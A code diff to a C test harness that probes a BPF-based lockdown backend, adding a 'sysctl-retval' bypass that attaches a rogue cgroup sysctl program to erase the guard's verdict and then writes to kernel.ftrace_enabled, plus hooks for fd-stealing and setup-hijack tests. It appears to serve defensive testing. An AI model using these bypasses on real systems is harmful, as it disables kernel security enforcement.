@@ -30,6 +30,10 @@
  *                   kernel.ftrace_enabled to 0, then write 1 there
  *   freplace-sysctl load an freplace program against a sysctl program of
  *                   ours, then link it to the backend's sysctl guard
+ *   sysctl-retval   attach a sysctl program that erases the guard's verdict
+ *                   (bpf_set_retval(0)), then write 0 to ftrace_enabled
+ *   preload-hide, hooks-ptrace, trace-setup, steal-fds, setup-hijack:
+ *                   against the setup of the first load (ldbpfdoor_setup.c)
  *   read-kernel PROG  load rogue program PROG (rogue_snprintf,
  *                   rogue_snprintf_btf, rogue_btf_load, rogue_iter), and
  *                   where it can, read linux_banner with it
@@ -69,14 +73,15 @@
 
 #include "../../../userspace/ldpolicy/bpf/ldp_bpf.h"
 #include "errname.h"
+#include "ldbpfdoor.h"
 #include "rogue.skel.h"
 
-static void say(const char *what, int err)
+void say(const char *what, int err)
 {
 	printf("%s: %s\n", what, err ? errno_name(err) : "ok");
 }
 
-static void __attribute__((noreturn, format(printf, 1, 2))) die(const char *fmt, ...)
+void die(const char *fmt, ...)
 {
 	va_list ap;
 
@@ -119,8 +124,7 @@ static struct bpf_prog_info prog_info(int fd, __u32 *map_ids, __u32 nr_maps)
 	return info;
 }
 
-/* The enforcement program, by id: no pin holds it, its link does. */
-static int enforcement_fd(void)
+int prog_named(const char *name, __u32 type)
 {
 	__u32 id = 0;
 
@@ -131,11 +135,21 @@ static int enforcement_fd(void)
 		if (fd < 0)
 			continue;
 		info = prog_info(fd, NULL, 0);
-		if (info.type == BPF_PROG_TYPE_LSM && !strcmp(info.name, "ldp_locked_down"))
+		if (info.type == type && !strcmp(info.name, name))
 			return fd;
 		close(fd);
 	}
-	die("the backend's enforcement program is not loaded");
+	return -1;
+}
+
+/* The enforcement program, by id: no pin holds it, its link does. */
+static int enforcement_fd(void)
+{
+	int fd = prog_named("ldp_locked_down", BPF_PROG_TYPE_LSM);
+
+	if (fd < 0)
+		die("the backend's enforcement program is not loaded");
+	return fd;
 }
 
 /* Add the maps of program @fd to @ids (of *n), each once. */
@@ -297,7 +311,7 @@ static void door_link_detach(void)
 	}
 }
 
-static struct rogue *rogue_open(void)
+struct rogue *rogue_open(void)
 {
 	struct rogue *r = rogue__open();
 	struct bpf_program *p;
@@ -368,7 +382,7 @@ static void door_freplace_retarget(void)
 }
 
 /* The rogue program named @name, in @r (opened, nothing loaded yet). */
-static struct bpf_program *rogue_prog(struct rogue *r, const char *name)
+struct bpf_program *rogue_prog(struct rogue *r, const char *name)
 {
 	struct bpf_program *p = bpf_object__find_program_by_name(r->obj, name);
 
@@ -536,6 +550,7 @@ static void door_fake_name(const char *hook, const char *pin)
  */
 static void door_steal_map(int secs)
 {
+	static const struct timespec nap = { 0, 200000 };
 	time_t end = time(NULL) + secs;
 	__u32 held[64], n = 0, id = 0;
 	long tries = 0;
@@ -549,6 +564,7 @@ static void door_steal_map(int secs)
 		tries++;
 		if (bpf_map_get_next_id(id, &id)) {
 			id = 0;
+			nanosleep(&nap, NULL);	/* each id seen: let ldpolicy on */
 			continue;
 		}
 		for (i = 0; i < n && held[i] != id; i++)
@@ -612,23 +628,53 @@ static void door_sysctl_rewrite(void)
 	rogue__destroy(r);
 }
 
+/*
+ * A sysctl program on the root cgroup, after the backend's guard, that
+ * erases the guard's verdict (bpf_set_retval(0)), attached as a link and
+ * as a program; then a write of 0 to kernel.ftrace_enabled.
+ */
+static void door_sysctl_retval(void)
+{
+	struct rogue *r = rogue_open();
+	int cg = root_cgroup(), prog, link, err, fd;
+
+	bpf_program__set_autoload(r->progs.rogue_sysctl_allow, true);
+	err = rogue__load(r);
+	say("load a sysctl program that erases the verdicts before it", err ? -err : 0);
+	if (err)
+		goto out;
+	prog = bpf_program__fd(r->progs.rogue_sysctl_allow);
+	link = bpf_link_create(prog, cg, BPF_CGROUP_SYSCTL, NULL);
+	say("attach it to the root cgroup (a link)", link < 0 ? errno : 0);
+	err = bpf_prog_attach(prog, cg, BPF_CGROUP_SYSCTL, BPF_F_ALLOW_MULTI) ? errno : 0;
+	say("attach it to the root cgroup (BPF_PROG_ATTACH)", err);
+	fd = open("/proc/sys/kernel/ftrace_enabled", O_WRONLY);
+	err = fd < 0 ? errno : write(fd, "0\n", 2) == 2 ? 0 : errno;
+	say("then write 0 to kernel.ftrace_enabled", err);
+	if (fd >= 0)
+		close(fd);
+	if (!err) {	/* the door was open: as it was, for what follows */
+		fd = open("/proc/sys/kernel/ftrace_enabled", O_WRONLY);
+		if (fd < 0 || write(fd, "1\n", 2) != 2)
+			die("cannot set ftrace_enabled back to 1");
+		close(fd);
+	}
+	if (link >= 0)
+		close(link);
+	bpf_prog_detach2(prog, cg, BPF_CGROUP_SYSCTL);
+out:
+	close(cg);
+	rogue__destroy(r);
+}
+
 /* The backend's sysctl guard, by name, as root finds it. */
 static int sysctl_guard_fd(void)
 {
-	__u32 id = 0;
+	int fd = prog_named("ldp_guard_sysct", BPF_PROG_TYPE_CGROUP_SYSCTL);
 
-	while (!bpf_prog_get_next_id(id, &id)) {
-		int fd = bpf_prog_get_fd_by_id(id);
-		struct bpf_prog_info info;
-
-		if (fd < 0)
-			continue;
-		info = prog_info(fd, NULL, 0);
-		if (info.type == BPF_PROG_TYPE_CGROUP_SYSCTL && !strcmp(info.name, "ldp_guard_sysct"))
-			return fd;
-		close(fd);
-	}
-	die("the backend's sysctl guard is not loaded");
+	if (fd < 0)
+		die("the backend's sysctl guard is not loaded");
+	return fd;
 }
 
 /*
@@ -918,6 +964,18 @@ int main(int argc, char **argv)
 		door_sysctl_rewrite();
 	else if (!strcmp(door, "freplace-sysctl"))
 		door_freplace_sysctl();
+	else if (!strcmp(door, "sysctl-retval"))
+		door_sysctl_retval();
+	else if (!strcmp(door, "preload-hide") && argc > 2)
+		door_preload_hide(atoi(argv[2]));
+	else if (!strcmp(door, "hooks-ptrace") && argc > 2)
+		door_hooks_ptrace(atoi(argv[2]));
+	else if (!strcmp(door, "trace-setup") && argc > 2)
+		door_trace_setup(atoi(argv[2]));
+	else if (!strcmp(door, "steal-fds") && argc > 2)
+		door_steal_fds(atoi(argv[2]));
+	else if (!strcmp(door, "setup-hijack") && argc > 3)
+		door_setup_hijack(argv[2], atoi(argv[3]));
 	else if (!strcmp(door, "read-kernel") && argc > 2)
 		door_read_kernel(argv[2]);
 	else if (!strcmp(door, "pfkey"))
